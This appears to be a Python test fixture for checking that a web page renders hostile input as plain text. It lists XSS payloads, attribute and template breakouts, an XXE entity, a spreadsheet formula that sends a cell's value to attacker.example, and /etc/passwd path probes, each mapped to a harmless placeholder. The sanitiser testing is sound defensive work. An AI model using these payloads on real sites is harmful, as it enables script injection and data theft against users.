"""Texts that attack a page: each, taken for anything but text, sets `hacked`, asks the network or breaks the page."""

from __future__ import annotations

RUN = "window.hacked=1"
ELSEWHERE = "https://attacker.example"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/src=data:text/javascript,{RUN}></script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT\t><script type=module>{RUN}</script>",
    "<!--<script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></noscript></template></iframe><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x\"/></svg>",
    f'</text></svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject>',
    f"</text><script>{RUN}</script><text>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math href="javascript:{RUN}">x</math>',
    '<iframe srcdoc="<script>parent.hacked=1</script>">',
    "<iframe src=javascript:parent.hacked=1>",
    '<object data="data:text/html,<script>parent.hacked=1</script>">',
    f'<embed src="javascript:{RUN}">',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f'<base href="{ELSEWHERE}/">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    f'<link rel=stylesheet href="{ELSEWHERE}/x.css">',
    f"<style>@import url({ELSEWHERE}/x.css); * {{ display: none; background: url({ELSEWHERE}/x) }}</style>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{ELSEWHERE}/x'>]><x>&e;</x>",
)

# They leave an attribute, a string or a template that they were put into.
BREAKERS = (
    f"'\"><b onmouseover={RUN}>x</b>",
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"`${{{RUN}}}`",
    "{{ 7*7 }}{% raw %}{{ ''.__class__ }}{# x #}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}#{{7*7}}<%= 7*7 %>",
    f'"}}]}};{RUN};//',
    f'\\";{RUN};//',
    f"');{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#x3e;",
    f"expression({RUN});background:url(javascript:{RUN})",
    f"url({ELSEWHERE}/x.png)",
    f"red;}} * {{ background: url({ELSEWHERE}/x) }}",
    "M0 0h9\" onclick='x' 1e999 NaN",
    f'=HYPERLINK("{ELSEWHERE}/?x="&A1,"open")',
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscr\nipt:{RUN}",
    f" \x01javascript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://attacker.example/x",
    "//attacker.example/x",
    f"#<img src=x onerror={RUN}>",
    "http://[::1",
)

# These are links indeed, and may be nothing else.
LINKS = (
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/'><script>{RUN}</script>",
    f"https://example.org/#</script><script>{RUN}</script>",
    f"HTTPS://example.org/?javascript:{RUN}",
)

# Names that mean something to a program.
NAMES = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "then", "length", "undefined", "null", "NaN",
    "search", "panel", "data", "canvas", "offer-0", "../../etc/passwd", "%00%ff%zz",
)  # fmt: skip

LETTERS = (
    "line\u2028separator\u2029here",
    "\u202eelpoep yrgna\u202c",
    "\u2067\u200f\u2066متحدث باسم الكرملين",
    "a nul\x00and others\x07\x1b[31m\x9f",
    "\ud800 halves \udfff of letters",
    "\ufeff\ufffe\uffff\ufdd0 no letters",
    "Z\u0351\u0363\u0301\u0348\u0349a\u0310\u0313" + "l\u030d" * 200,
    "very long " * 400,
    "W" * 5000,
)

PAYLOADS = (*ELEMENTS, *BREAKERS, *ADDRESSES, *LINKS, *NAMES, *LETTERS)


def harmless(payload: str) -> str:
    """A word of its own for each payload, of which a page makes the same elements."""
    number = PAYLOADS.index(payload)
    return f"https://example.org/{number}" if payload in LINKS else f"Plain {number}"
